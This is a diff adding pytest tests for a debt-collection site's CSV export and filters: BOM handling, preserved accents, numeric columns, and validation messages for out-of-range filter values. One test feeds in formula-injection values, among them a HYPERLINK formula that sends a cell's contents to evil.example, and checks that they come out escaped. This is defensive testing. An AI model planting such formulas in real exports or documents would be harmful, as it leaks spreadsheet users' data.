@@ -10,6 +10,7 @@ from dunning_site.collections.models import Case
 from dunning_site.collections.services import case_open
 from dunning_site.collections.tests.factories import standard_policy
 from dunning_site.collections.tests.views.moment import NOW
+from dunning_site.collections.views.cases import UTF8_BOM
 
 pytestmark = pytest.mark.django_db
 
@@ -35,7 +36,9 @@ def policy():
 def exported(client, query: str) -> list[dict]:
     response = client.get(f"/cases/export.csv?{query}")
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    content = b"".join(response.streaming_content)
+    assert content.startswith(UTF8_BOM.encode())
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
 
 
 def test_filtering_by_segment_and_days_overdue_and_exporting_the_same_rows(client, collector):
@@ -128,3 +131,63 @@ def test_without_filters_the_list_shows_the_active_cases(client, collector):
 def test_an_export_with_filters_that_do_not_apply_exports_nothing(client, collector):
     open_case(segment="smb", days=12)
     assert exported(client, "days_min=lots") == []
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
+        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Zoë Ærøskøbing", "Zoë Ærøskøbing"),
+        ("株式会社 山田", "株式会社 山田"),
+    ],
+)
+def test_the_export_neutralises_formulas_in_text_and_keeps_accents(client, collector, name, cell):
+    case = open_case(segment="smb", days=12)
+    case.customer.name = name
+    case.customer.company = name
+    case.customer.save()
+    (row,) = exported(client, "status=active")
+    assert row["customer"] == cell and row["company"] == cell
+
+
+def test_the_export_keeps_numbers_numeric_even_negative(client, collector):
+    case = open_case(segment="smb", days=12, total=12_345)
+    Case.objects.filter(pk=case.pk).update(anchor_due_on=NOW.date() + dt.timedelta(days=3))
+    (row,) = exported(client, "status=active")
+    assert (row["amount_overdue"], row["days_overdue"]) == ("123.45", "-3")
+
+
+@pytest.mark.parametrize(
+    ("query", "explained"),
+    [
+        ("days_min=1000000", "Ensure this value is less than or equal to 36500."),
+        ("days_max=1e10", "Ensure this value is less than or equal to 36500."),
+        ("days_min=-1", "Ensure this value is greater than or equal to 0."),
+        ("days_min=2.5", "Ensure that there are no more than 0 decimal places."),
+        ("days_max=NaN", "Enter a number."),
+        ("policy=99999999999999999999", "Select a valid choice."),
+        ("assignee=99999999999999999999", "Select a valid choice."),
+        ("o=-nonsense", "Select a valid choice."),
+    ],
+)
+def test_a_number_filter_out_of_range_is_explained_never_a_server_error(client, collector, query, explained):
+    case = open_case(segment="smb", days=10)
+    response = client.get(f"/cases/?{query}")
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert explained in page
+    assert case.customer.name not in page
+    assert exported(client, query) == []
+
+
+def test_the_widest_days_filter_still_applies(client, collector):
+    case = open_case(segment="smb", days=10)
+    assert (
+        case.customer.name in client.get("/cases/?days_min=0&days_max=36500&page=99999999999999999999").content.decode()
+    )
+    assert [row["customer"] for row in exported(client, "days_min=0&days_max=36500")] == [case.customer.name]
